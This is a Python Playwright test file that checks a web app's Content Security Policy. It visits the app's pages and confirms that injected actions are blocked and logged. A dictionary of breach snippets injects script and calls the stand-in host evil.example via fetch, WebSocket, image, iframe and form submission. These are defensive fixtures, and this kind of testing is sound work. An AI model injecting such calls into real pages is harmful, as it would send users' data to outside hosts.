"""The browser finds nothing on any page of ours that its Content Security Policy forbids.

The owner's pages are opened under the same guard by test_owner_tabs.py and test_owner_sign_in.py.
"""

import pytest
from playwright.sync_api import expect

from tests.e2e.guard import Guard
from tests.e2e.visitor_page import WAIT

pytestmark = pytest.mark.browser

POLICY = "Content Security Policy"
BREACHES = {
    "script": "const s = document.createElement('script'); s.text = '1'; document.body.append(s)",
    "request": "fetch('https://evil.example/x').catch(() => 0)",
    "socket": "try { new WebSocket('wss://evil.example/x') } catch {}",
    "image": "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x' }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'https://evil.example/x' }))",
    "form": "const f = document.createElement('form'); f.action = 'https://evil.example/x';"
    " document.body.append(f); f.submit()",
}
PAGES = ("/book", "/fit", "/privacy", "/api/docs")


def test_ordinary_use_of_every_page_breaks_no_rule(visitor):
    page = visitor.page
    for name in page.get_by_role("tab").all_inner_texts():
        visitor.open_part(name)
    visitor.open_part(page.get_by_role("tab").first.inner_text())
    visitor.ask("Where did you study?")
    for path in PAGES:
        # The stream that the page leaves behind is reported as an error.
        visitor.guard.allow_broken_connections()
        page.goto(f"{visitor.app.url}{path}")
        expect(page.locator("body")).to_be_visible(timeout=WAIT)


def test_a_breach_of_the_policy_is_stopped_and_noticed(browser, app):
    """However it is tried, and even while broken connections are excused."""
    context = browser.new_context()
    guard = Guard(context, app.url)
    guard.allow_broken_connections()
    page = context.new_page()
    page.goto(app.url)
    for kind, script in BREACHES.items():
        with page.expect_console_message(lambda said: POLICY in said.text, timeout=WAIT) as said:
            page.evaluate(f"setTimeout(() => {{ {script} }})")
        assert any(said.value.text in fault for fault in guard.faults), kind
    context.close()
